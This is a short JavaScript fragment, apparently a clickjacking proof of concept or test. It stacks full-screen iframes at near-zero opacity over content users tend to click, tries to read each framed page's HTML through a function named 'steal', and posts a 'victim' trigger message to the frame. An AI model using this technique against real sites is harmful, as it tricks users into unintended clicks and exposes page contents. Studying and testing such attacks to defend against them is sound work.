// Our pages in a frame of theirs, invisible, under something that one likes to click.
for (const path of READING) {
  const frame = document.createElement("iframe");
  Object.assign(frame, { src: url(path), style: "position:fixed;inset:0;width:100%;height:100%;opacity:.01" });
  document.body.append(frame);
  await within(new Promise((go) => (frame.onload = go)), 500);
  try {
    await steal(frame.contentDocument?.documentElement.outerHTML.includes("Petit"));
  } catch {
    // another origin's, or an error page
  }
  frame.contentWindow.postMessage({ trigger: "victim" }, "*");
  frame.contentWindow.focus();
}
